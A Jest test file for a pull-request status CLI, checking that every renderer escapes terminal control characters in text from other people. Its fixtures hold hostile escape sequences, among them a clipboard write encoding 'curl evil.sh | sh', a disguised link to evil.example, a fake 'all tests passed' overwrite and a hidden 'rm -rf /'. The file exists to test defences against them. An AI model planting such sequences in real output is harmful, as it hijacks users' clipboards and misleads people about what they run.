// Text others wrote reaches the terminal without a single control character,
// in every renderer; JSON keeps it exact, escaped.

import { describe, expect, it } from '@jest/globals'
import { STATUS_MARKER } from '../../src/github/status-comment.js'
import { renderState } from '../../src/report/state.js'
import { createDisplay } from '../../src/cli/live.js'
import {
  listText,
  liveFrame,
  progressLine,
  resultText,
  snapshotJson,
  stateLabel,
  statusText,
} from '../../src/cli/render.js'
import { deriveSnapshot, type PullInfo } from '../../src/cli/snapshot.js'
import { pickStatusComment } from '../../src/cli/status-comment.js'
import { jsonSafe, terminalSafe } from '../../src/cli/terminal.js'

/** What a hostile agent or PR author would put in text the CLI prints. */
const ATTACKS = {
  clear: '\u001b[2J\u001b[H',
  title: '\u001b]0;pwned\u0007',
  clipboard: '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007',
  link: '\u001b]8;;https://evil.example/\u001b\\innocent\u001b]8;;\u001b\\',
  csi: '\u009b31m',
  overwrite: 'all tests failed\rall tests passed',
  backspace: 'rm -rf /\b\b\b\b\b\b\b\bls',
  del: 'a\u007fb',
}
const HOSTILE = Object.values(ATTACKS).join(' ')

/** Every control character but the newline (and tab) a block of text may keep. */
// eslint-disable-next-line no-control-regex -- the test looks for exactly these
const FORBIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/
// eslint-disable-next-line no-control-regex -- and in one line, newline and tab too
const FORBIDDEN_IN_LINE = /[\u0000-\u001f\u007f-\u009f]/

describe('terminalSafe', () => {
  it.each(Object.entries(ATTACKS))('shows every control character of %s', (_, attack) => {
    const safe = terminalSafe(attack)
    expect(safe).not.toMatch(FORBIDDEN_IN_LINE)
    expect(terminalSafe(attack, 'block')).not.toMatch(FORBIDDEN)
  })

  it('shows them as escapes a reader recognises, and leaves other text alone', () => {
    expect(terminalSafe(ATTACKS.title)).toBe('\\x1b]0;pwned\\x07')
    expect(terminalSafe(ATTACKS.csi)).toBe('\\x9b31m')
    expect(terminalSafe(ATTACKS.overwrite)).toBe('all tests failed\\rall tests passed')
    expect(terminalSafe('a\u007fb\u0000c')).toBe('a\\x7fb\\x00c')
    expect(terminalSafe('✅ Résumé — 日本語 `code` @user \\x1b')).toBe(
      '✅ Résumé — 日本語 `code` @user \\x1b',
    )
  })

  it('keeps lines and tabs in a block, shows them in a line, and takes CRLF as a line end', () => {
    expect(terminalSafe('one\r\ntwo\tcol\rthree', 'block')).toBe('one\ntwo\tcol\\rthree')
    expect(terminalSafe('one\r\ntwo\tcol', 'line')).toBe('one\\r\\ntwo\\tcol')
  })

  it('is idempotent', () => {
    const once = terminalSafe(HOSTILE, 'block')
    expect(terminalSafe(once, 'block')).toBe(once)
  })
})

describe('jsonSafe', () => {
  it('keeps the exact text, with C0, DEL and C1 escaped', () => {
    const value = { title: HOSTILE, nested: [{ text: '\u0085\u009f\u2028' }] }
    const text = jsonSafe(value)
    expect(text).not.toMatch(FORBIDDEN)
    expect(text).toContain('\\u001b]0;pwned\\u0007')
    expect(text).toContain('\\u009b31m')
    expect(JSON.parse(text)).toEqual(value)
  })
})

const pull: PullInfo = {
  number: 3,
  title: `Fix the bug ${HOSTILE}`,
  url: 'https://github.com/octo/app/pull/3',
  state: 'open',
  merged: false,
  draft: false,
  author: 'alice',
  headRef: `async/fix\u009b2J`,
  headSha: 'c'.repeat(40),
  baseRef: 'main',
}

function hostileSnapshot(state: string) {
  const stateLine = renderState({
    v: 1,
    state: state as 'working',
    runUrl: `https://github.com/octo/app/actions/runs/1${ATTACKS.link}`,
    commitSha: `dddddd${ATTACKS.csi}`,
    sessionId: `sess${ATTACKS.clear}`,
  })
  const body = [
    STATUS_MARKER,
    `### ✅ async-pr finished ${ATTACKS.title}`,
    '',
    `The agent says: ${HOSTILE}`,
    '',
    '**Checklist**',
    '',
    `- [x] Security review: passed${ATTACKS.title}`,
    // (A bare CR would end the item: a checklist line holds no CR.)
    `- [ ] Next ${ATTACKS.clipboard}${ATTACKS.csi}${ATTACKS.del}`,
    '',
    stateLine,
  ].join('\n')
  const status = pickStatusComment([
    {
      id: 1,
      url: 'https://github.com/octo/app/pull/3#issuecomment-1',
      body,
      author: 'github-actions[bot]',
      authorType: 'Bot',
      createdAt: '2025-01-01T00:00:00Z',
      updatedAt: '2025-01-01T00:00:00Z',
    },
  ])
  return deriveSnapshot({ repo: 'octo/app', pull, status })
}

describe('every renderer of text for people', () => {
  const done = hostileSnapshot('success')
  // A state the action never writes: the hidden line is read as any string.
  const forged = hostileSnapshot(`success${ATTACKS.clear}`)
  const working = hostileSnapshot('working')

  it('status, result and list print none of the control characters', () => {
    expect(done.checklist).toHaveLength(2)
    for (const snapshot of [done, forged, working]) {
      expect(statusText(snapshot)).not.toMatch(FORBIDDEN)
      expect(resultText(snapshot)).not.toMatch(FORBIDDEN)
      expect(listText([snapshot, done])).not.toMatch(FORBIDDEN)
      expect(stateLabel(snapshot)).not.toMatch(FORBIDDEN_IN_LINE)
      expect(progressLine(snapshot)).not.toMatch(FORBIDDEN_IN_LINE)
      for (const text of liveFrame(snapshot, 1000, 0, 400))
        expect(text).not.toMatch(FORBIDDEN_IN_LINE)
    }
    expect(resultText({ ...done, markdown: undefined })).not.toMatch(FORBIDDEN)
    // What was there stays readable.
    expect(statusText(done)).toContain('[x] Security review: passed\\x1b]0;pwned\\x07')
    expect(resultText(done)).toContain('all tests failed\\rall tests passed')
    expect(resultText(done)).toContain('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07')
  })

  it('a field cannot forge the lines after it', () => {
    const snapshot = { ...done, pull: { ...pull, title: 'T\n✔ #4 done (success)' } }
    expect(statusText(snapshot).split('\n')[0]).toBe('#3 T\\n✔ #4 done (success)')
    expect(listText([snapshot]).split('\n')).toHaveLength(1)
  })

  it('JSON keeps the text exact', () => {
    const json = JSON.parse(jsonSafe(snapshotJson(done, { body: true })))
    expect(json.title).toBe(pull.title)
    expect(json.branch).toBe(pull.headRef)
    expect(json.body).toContain(ATTACKS.clipboard)
    expect(json.checklist[0].text).toContain(ATTACKS.title)
    expect(json.body).toContain(ATTACKS.overwrite)
  })

  it('the live display redraws with its own escapes and no others', () => {
    let written = ''
    const out = { write: (chunk: string) => (written += chunk), isTTY: true, columns: 120 }
    const display = createDisplay(out, { live: true, now: () => 0 })
    display.show(working)
    display.note(`Poll failed (${ATTACKS.title})`)
    display.show(done)
    display.stop()
    // The redraw: up N lines, to the line's start, clear to the end of the screen.
    // eslint-disable-next-line no-control-regex -- the redraw's own escapes
    const own = /\u001b\[\d+A\r\u001b\[0J/g
    expect(written).toMatch(own)
    expect(written.replace(own, '')).not.toMatch(FORBIDDEN)
    expect(written).toContain('Poll failed (\\x1b]0;pwned\\x07)')
  })

  it('the plain display too', () => {
    let written = ''
    const display = createDisplay(
      { write: (chunk: string) => (written += chunk) },
      {
        live: false,
        now: () => 0,
      },
    )
    display.show(working)
    display.note(ATTACKS.clear)
    display.show(done)
    expect(written.split('\n').length).toBeGreaterThan(2)
    expect(written).not.toMatch(FORBIDDEN)
  })
})
